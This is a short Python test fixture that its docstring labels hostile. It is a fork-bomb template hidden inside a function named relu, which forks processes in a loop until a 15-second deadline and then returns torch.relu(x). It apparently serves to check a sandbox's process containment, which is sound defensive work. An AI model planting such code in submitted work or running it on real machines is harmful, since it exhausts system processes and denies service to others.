"""HOSTILE: a fork bomb. Every process forks again in a loop; each names itself __TAG__ (prctl
PR_SET_NAME) so the test can find survivors. Guarded: every process stops on its own after
a deadline, in case containment fails. (A template: the test fills in __TAG__.)"""

import ctypes
import gc
import os
import time

import torch

DEADLINE_S = 15.0
TAG = b"__TAG__"


def _name_self():
    try:
        ctypes.CDLL(None).prctl(15, ctypes.c_char_p(TAG), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def relu(x):
    gc.disable()  # fewer copy-on-write pages per child
    stop = time.monotonic() + DEADLINE_S
    _name_self()
    child = False
    while time.monotonic() < stop:
        try:
            pid = os.fork()
        except OSError:  # pids.max reached: keep trying, like a real bomb
            time.sleep(0.02)
            continue
        if pid == 0:
            child = True
            _name_self()
        time.sleep(0.01)
    if child:
        os._exit(0)
    return torch.relu(x)
